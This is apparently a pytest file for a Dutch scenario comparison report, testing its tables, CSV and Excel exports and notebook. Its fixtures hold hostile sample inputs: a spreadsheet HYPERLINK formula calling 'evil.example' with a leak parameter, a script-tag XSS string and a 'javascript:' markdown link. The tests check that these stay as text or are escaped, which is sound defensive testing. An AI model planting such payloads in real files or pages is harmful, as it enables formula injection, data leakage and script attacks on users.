"""The scenario comparison report (issue 17): its tables, the export, escaping and the notebook.

Values by hand as in tests/test_compare.py: Heerlen Noord's realisatiestimulans 7,608,461.54
in the base scenario (pages 6, 8; A13), 3,804,230.77 at realisation 0.5; ORV 9,000,000 and
capacity 3,583,333.33 under the national ceilings (pages 7, 8; A22); nationally ORV 180 of
200 mln claims paid, capacity 50 of 60 mln.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from nplv_analysis.engine import Scenario, compare
from nplv_analysis.engine.files import NamedScenario
from nplv_analysis.report import comparison as C
from nplv_analysis.report.tables import styled
from nplv_analysis.text import t

from .conftest import PROJECT

HN = "heerlen-noord"
FORMULA = '=HYPERLINK("http://evil.example/?leak=1","klik")'
SCRIPT = "<script>alert(1)</script>"
BASE = "basisscenario (berekend)"  # the name of data/scenarios/0-basisscenario.yaml


def named(name: str, description: str | None = None, **fields) -> NamedScenario:
    desc = {"nl": description, "en": description} if description else None
    return NamedScenario({"nl": name, "en": name}, Scenario(**fields), desc)


@pytest.fixture(scope="module")
def hn():
    return compare([named(BASE), named("half", realisation=0.5)], HN, n_draws=200)


@pytest.fixture(scope="module")
def hostile():
    return compare(
        [
            named(FORMULA, description="-1 jaar *vet* [x](javascript:y)"),
            named(f"Heerlen {SCRIPT}", description=f"risico's {SCRIPT}", realisation=0.5),
        ],
        HN,
        n_draws=200,
    )


def test_run_comparison_reads_the_shipped_files_in_order():
    c = C.run_comparison(None, "national", n_draws=50)
    assert c.area is None
    assert c.names[:3] == ["basisscenario (berekend)", "starts 1 jaar later", "70% realisatie"]
    c = C.run_comparison(
        [
            PROJECT / "data/scenarios/2-realisatie-70.yaml",
            PROJECT / "data/scenarios/0-basisscenario.yaml",
        ],
        HN,
        lang="en",
        n_draws=50,
    )
    assert c.names == ["70% realisation", "base scenario (computed)"]  # the first: the baseline
    with pytest.raises(ValueError, match="known: "):
        C.run_comparison(None, "atlantis", n_draws=50)


def test_totals_table_writes_the_hand_values_and_the_difference(hn):
    table = C.totals_table(hn, "nl")
    assert list(table.columns) == [BASE, "half"]
    rs = t("realisatiestimulans", "nl")
    computed = f"{rs}, {t('computed', 'nl')}"
    diff = f"{rs}: verschil met het basisscenario"  # the first is Scenario(): the base scenario
    assert table.at[computed, BASE] == "€ 7.608.462"
    assert table.at[computed, "half"] == "€ 3.804.231"
    assert table.at[diff, BASE] == t("cmp.baseline", "nl")
    assert table.at[diff, "half"] == "\u2212 € 3,8 mln"
    assert table.at[f"{rs}: {t('cmp.position', 'nl')}", "half"] == t("below", "nl")
    orv = f"{t('orv', 'nl')}, {t('computed', 'nl')}"
    assert table.at[orv, "half"] == "€ 9.000.000"
    assert table.at[f"{t('capaciteit', 'nl')}, {t('computed', 'nl')}", "half"] == "€ 3.583.333"


def test_reference_table_names_what_the_agreement_says(hn):
    table = C.reference_table(hn, "nl")
    ref = t("reference", "nl")
    assert table.at[t("realisatiestimulans", "nl"), ref] == (
        f"{t('kind.estimate', 'nl')}: € 5.300.000 – € 8.000.000"
    )
    assert table.at[t("orv", "nl"), ref] == f"{t('kind.drawing_right', 'nl')}: € 10.000.000"
    nat = compare([named("a")], None, n_draws=50)
    table = C.reference_table(nat, "en")
    assert table.at[t("orv", "en"), t("reference", "en")] == f"{t('ceiling', 'en')}: € 180,000,000"


def test_ceilings_table_paid_of_claims_nationally(hn):
    table = C.ceilings_table(hn, "nl")
    row = table.loc[("half", t("orv", "nl"))]
    assert row[t("cmp.claims", "nl")] == "€ 200.000.000"
    assert row[t("cmp.paid", "nl")] == "€ 180.000.000"
    assert row[t("cmp.share_used", "nl")] == "100%"
    row = table.loc[(BASE, t("capaciteit", "nl"))]
    assert (row[t("cmp.claims", "nl")], row[t("cmp.paid", "nl")]) == (
        "€ 60.000.000",
        "€ 50.000.000",
    )


def test_payments_table_per_year(hn):
    table = C.payments_table(hn, "nl")
    row = table.loc[("half", t("realisatiestimulans", "nl"))]
    assert row["2026"] == "€ 760.846"  # 3,804,230.77 / 5
    assert row[t("totaal", "nl")] == "€ 3.804.231"


def test_all_numbers_holds_every_figure(hn):
    table = C.all_numbers(hn).set_index(["scenario", "instrument"])
    assert list(table.reset_index().columns) == C.ALL_COLUMNS
    assert table.at[("half", "realisatiestimulans"), "gross_eur"] == pytest.approx(
        3_804_230.77, abs=0.01
    )
    assert table.at[("half", "realisatiestimulans"), "difference_eur"] == pytest.approx(
        -3_804_230.77, abs=0.01
    )
    assert table.at[("half", "orv"), "paid_eur"] == pytest.approx(180_000_000)
    assert table.at[("half", "orv"), "claims_eur"] == pytest.approx(200_000_000)
    assert pd.isna(table.at[("half", "realisatiestimulans"), "ceiling_eur"])
    p10 = table.at[("half", "realisatiestimulans"), "p10_eur"]
    assert 0.7 * 3_804_230.77 <= p10 <= 1.05 * 3_804_230.77  # the band around 0.5 (A15)
    assert pd.isna(table.at[("half", "orv"), "p10_eur"])


def test_export_writes_csv_excel_and_excel_nl(hn, tmp_path):
    paths = C.write_comparison(hn, tmp_path, "nl")
    names = sorted(p.name for p in paths)
    assert names == [  # prefixed: the area report writes payments.csv into the same folder
        "comparison-bands.csv",
        "comparison-ceilings.csv",
        "comparison-codeboek.csv",
        "comparison-excel-nl.csv",
        "comparison-payments.csv",
        "comparison-scenarios.csv",
        "comparison.csv",
        "comparison.xlsx",
    ]
    machine = pd.read_csv(tmp_path / "comparison.csv")
    half = machine[
        (machine["scenario"] == "half") & (machine["instrument"] == "realisatiestimulans")
    ]
    assert half["gross_eur"].item() == 3_804_230.77
    raw = (tmp_path / "comparison-excel-nl.csv").read_bytes()
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    header = rows[0]
    assert header[:2] == [t("col.scenario", "nl"), t("col.instrument", "nl")]
    gross = header.index(t("col.gross_eur", "nl"))
    # for people the codes are words: instrument, scope, what the agreement says, position
    line = next(r for r in rows if r[0] == "half" and r[1] == "Realisatiestimulans")
    assert line[gross] == "3804230,77"  # decimal comma
    assert line[2:4] == ["dit gebied", "3804230,77"]
    assert "inschatting (afspraak)" in line and "onder de inschatting" in line
    orv = next(r for r in rows if r[0] == "half" and r[1].startswith("ORV"))
    assert "trekkingsrecht (maximum)" in orv
    book = openpyxl.load_workbook(tmp_path / "comparison.xlsx")
    assert t("sheet.comparison", "nl") in book.sheetnames
    sheet = [[c.value for c in r] for r in book[t("sheet.comparison", "nl")].iter_rows()]
    assert "onder de inschatting" in next(r for r in sheet if r[0] == "half" and r[5])
    # the machine CSV keeps the codes
    assert set(machine["position"].dropna()) <= {"below", "within", "above"}
    assert t("sheet.sources", "nl") in book.sheetnames


def test_a_formula_name_stays_text_in_every_export(hostile, tmp_path):
    C.write_comparison(hostile, tmp_path, "nl")
    text = (tmp_path / "comparison.csv").read_text(encoding="utf-8")
    assert f"'{FORMULA[:10]}" in text.replace('""', '"')
    for row in csv.reader(io.StringIO(text)):
        assert not row[0].startswith("=")
    nl = (tmp_path / "comparison-excel-nl.csv").read_bytes().decode("utf-8-sig")
    assert all(not r[0].startswith("=") for r in csv.reader(io.StringIO(nl), delimiter=";"))
    scen = list(csv.reader(io.StringIO((tmp_path / "comparison-scenarios.csv").read_text())))
    assert scen[1][1] == "'-1 jaar *vet* [x](javascript:y)"  # a description starting with -
    book = openpyxl.load_workbook(tmp_path / "comparison.xlsx")
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    ws = book[t("sheet.comparison", "nl")]
    assert ws["A2"].value == FORMULA and ws["A2"].data_type == "s"


def test_names_and_descriptions_are_escaped_in_html_and_markdown(hostile):
    html = styled(C.totals_table(hostile, "nl")).to_html()
    assert "<script>alert" not in html and "&lt;script&gt;" in html
    md = C.scenarios_markdown(hostile, "nl")
    assert "<script>" not in md and "&lt;script&gt;alert(1)&lt;/script&gt;" in md
    assert "\\[x\\](javascript:y)" in md and "\\*vet\\*" in md  # no link, no emphasis
    assert "risico's" in md  # an apostrophe stays one
    shown = FORMULA.replace("://", "&#58;//")  # no link made of the address
    assert md.startswith(f"1. **{shown}** ({t('cmp.baseline', 'nl')})")
    notes = C.method_notes(hostile, "nl", 200)
    assert all("<script>" not in n for n in notes)
    html = styled(C.ceilings_table(hostile, "nl")).to_html()
    assert "<script>alert" not in html


def test_the_modelling_choices_are_named(hn):
    notes = C.method_notes(hn, "nl", 2000)
    assert f"({BASE})" in notes[0]
    assert "Die verdeelregel is een aanname (A22)" in notes[0]
    assert "2.000 keer" in notes[1] and "70% tot 105%" in notes[1]  # the band of A15
    assert "€ 180,0 mln" in notes[2] and "€ 50,0 mln" in notes[2]
    nat = compare([named("a")], None, n_draws=50)
    assert "Heerlen Noord" in C.method_notes(nat, "nl", 50)[2]


# --- the notebook --------------------------------------------------------------------------------


@pytest.mark.parametrize("area_id", [HN, "national"])
def test_the_notebook_runs_with_papermill_and_saves_its_files(tmp_path, area_id):
    import papermill

    out = tmp_path / "out"
    papermill.execute_notebook(
        str(PROJECT / "notebooks" / "scenario_comparison.ipynb"),
        str(tmp_path / "executed.ipynb"),
        parameters={"area_id": area_id, "out_dir": str(out), "n_draws": 200, "lang": "en"},
        kernel_name="python3",
        cwd=str(PROJECT / "notebooks"),
        progress_bar=False,
    )
    saved = {p.name for p in out.iterdir()}
    for name in ("totals", "payments", "ceilings", "bands"):  # prefixed: the area report and
        # the national overview write payments.csv, ceilings.png ... into the same folder
        assert {f"comparison-{name}.png", f"comparison-{name}.svg"} <= saved
        assert f"comparison-{name}.csv" in saved or name == "totals"
        assert f"{name}.png" not in saved and f"{name}.csv" not in saved
    assert {"comparison.csv", "comparison.xlsx", "comparison-excel-nl.csv"} <= saved
    machine = pd.read_csv(out / "comparison.csv")
    assert machine["scenario"].iloc[0] == "base scenario (computed)"  # lang="en": English names
    assert set(machine["scope"]) == ({"area"} if area_id == HN else {"areas", "national"})


def test_the_tables_name_the_instrument_column_instrument(hn):
    # it was headed "Gegeven" (figure), a word for a published number, not for an instrument
    assert list(C.reference_table(hn, "nl").index)[0] == "Realisatiestimulans"
    assert C.payments_table(hn, "nl").index.names == ["scenario", "Instrument"]
